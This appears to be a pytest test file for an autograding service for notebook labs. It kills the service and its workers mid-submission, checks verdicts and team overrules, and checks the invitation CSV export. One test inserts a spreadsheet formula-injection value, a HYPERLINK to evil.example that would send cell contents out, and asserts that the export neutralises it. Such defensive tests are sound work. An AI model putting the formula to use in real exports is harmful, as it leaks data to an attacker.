"""The whole live class as its own process: kills at any moment, and the grade for good. A hub's day has its verdicts."""

import csv
import json
import random
import time
from collections.abc import Iterator
from pathlib import Path

import nbformat
import pytest

from autograder.audit.simulate import answered
from autograder.course.masters import solution_sources
from autograder.files import feedback_page
from autograder.sandbox.host.transport import _process_tree
from autograder.sandbox.jail.namespaces import probe
from tests.fixtures.frozen_course import BROKEN, LAB, WRONG
from tests.fixtures.live_class import Served
from tests.fixtures.waiting import until
from tests.sandbox.conftest import runs

pytestmark = [
    pytest.mark.skipif(probe() is not None, reason=str(probe())),
    pytest.mark.xdist_group("live_class"),
]

HAND_IN = f"/labs/{LAB}/hand-in"
KILLS = 2


def notebook(answers: dict[str, str], mark: object = "") -> bytes:
    """A submission; ``mark`` makes its bytes its own."""
    made = answered(LAB, solution_sources(LAB) | answers)
    made.metadata["mark"] = str(mark)
    return nbformat.writes(made).encode()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory, frozen: Path) -> Iterator[Served]:
    service = Served(frozen, tmp_path_factory.mktemp("live") / "out", LAB)
    service.tokens = service.invite("bo", *(f"s{n}" for n in range(2 * KILLS)))
    service.start()
    yield service
    service.process.kill()


def verdict(served: Served, token: str, receipt: str) -> dict:
    path = f"/receipts/{receipt}"
    until(lambda: served.ask(f"{path}?wait=20", token=token).json["state"] != "waiting")
    return served.ask(path, token=token).json


def test_after_kills_of_service_and_workers_every_receipt_has_one_verdict_and_the_right_one(served):
    """What was handed in while everything around it was killed has the points that it has in peace."""
    rng, receipts = random.Random(7), {}
    kinds = ({}, WRONG, BROKEN)
    for number in range(2 * KILLS):
        student = f"s{number}"
        try:
            answer = served.ask(HAND_IN, notebook(kinds[number % 3], number), served.tokens[student])
        except OSError:
            answer = None  # killed before it could say anything: then there need be no receipt
        if answer is not None:
            assert answer.status == 201, answer.body
            receipts[student] = (answer.json["receipt"], number % 3)
        time.sleep(rng.uniform(0, 0.8))
        if number % 2:
            if rng.random() < 0.5:
                served.kill_a_worker()
            else:
                time.sleep(rng.uniform(0, 0.3))
                served.kill()
                served.start()
    assert receipts
    scores: dict[int, set[float]] = {0: set(), 1: set(), 2: set()}
    for student, (receipt, kind) in receipts.items():
        scores[kind].add(verdict(served, served.tokens[student], receipt)["score"])
    assert all(len(seen) <= 1 for seen in scores.values()), scores
    assert max(scores[0]) > max(scores[1] | scores[2])
    assert served.stop() == 0
    served.start()


def test_the_class_is_graded_for_good_by_what_counts_and_what_the_team_decided(served):
    question, address = next(iter(WRONG)), f"/team/{LAB}/decide"
    overruled = {"do": "overrule", "student": "s0", "question": question, "points": 1, "why": "Too late."}
    for wish in (overruled, {"do": "grade"}):
        answer = served.ask(address, json.dumps(wish).encode(), served.tokens["prof"])
        assert answer.status == 200, answer.body
    rows = {row["student"]: row for row in json.loads((served.out / "results.json").read_text())}
    assert rows["s0"]["score"] == rows["s0"]["max_score"], "by the tests"
    page = feedback_page(served.out, "s0", LAB).read_text(encoding="utf-8")
    assert "Too late." in page and "gave 1 point" in page


def test_a_worker_that_is_busy_ends_with_the_service(served):
    endless = answered(LAB, solution_sources(LAB))
    endless.cells.insert(1, nbformat.v4.new_code_cell("while True: pass"))
    assert served.ask(HAND_IN, nbformat.writes(endless).encode(), served.tokens["bo"]).status == 201
    before = set(_process_tree(served.process.pid))
    until(lambda: set(_process_tree(served.process.pid)) - before)  # the submission's own process
    started = set(_process_tree(served.process.pid)) | before
    served.kill()
    until(lambda: not any(map(runs, started - {served.process.pid})))


def test_invitations_are_for_the_class_list_made_once_and_no_formulas_in_a_spreadsheet(
    said, course_at, tmp_path
):
    listed, out = tmp_path / "out" / "invitations.csv", ("--out", tmp_path / "out")
    formula = '"=HYPERLINK(""http://evil.example/?""&E2,""Eve"")",+1@evil.example'
    course_at("", f"student,name,email\nada,Ada Lovelace,\n-eve,{formula}\n")
    said("invite", *out, "--team", "@prof")
    assert listed.stat().st_mode & 0o777 == 0o600
    with listed.open(newline="") as file:
        rows = list(csv.reader(file))
    assert [row[:3] for row in rows[1:]] == [
        ["ada", "Ada Lovelace", ""],
        ["'-eve", '\'=HYPERLINK("http://evil.example/?"&E2,"Eve")', "'+1@evil.example"],
        ["'@prof", "", ""],
    ]
    assert "Everybody is invited already" in said("invite", *out)
    assert "not on the class list" in said("invite", *out, "mallory", status=2)
    course_at("")
    alone = said("invite", "--out", tmp_path / "alone", "--team", "prof")
    assert "There is no class list" in alone and "1 invitations" in alone
